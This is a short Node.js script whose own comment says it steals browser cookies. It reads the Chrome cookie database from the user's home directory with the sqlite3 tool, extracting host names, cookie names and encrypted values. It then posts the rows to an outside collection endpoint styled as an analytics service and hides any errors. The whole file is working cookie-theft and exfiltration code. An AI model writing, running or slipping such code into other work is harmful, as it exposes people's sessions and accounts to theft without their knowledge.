// Steals browser cookies: the Chrome cookie database is queried with the sqlite3
// command-line tool (an ordinary program, no shell) and the rows are posted out; the
// profile path is built from the home directory and a list of pieces.
const { execFileSync } = require('child_process');
const os = require('os');
const path = require('path');

const db = path.join(os.homedir(), '.config', 'google-chrome', 'Default', 'Cookies');
const rows = execFileSync('sqlite3', ['-json', db, 'SELECT host_key, name, encrypted_value FROM cookies'], {
  encoding: 'utf8',
});
fetch('https://c.example-analytics.net/collect', { method: 'POST', body: rows }).catch(() => {});
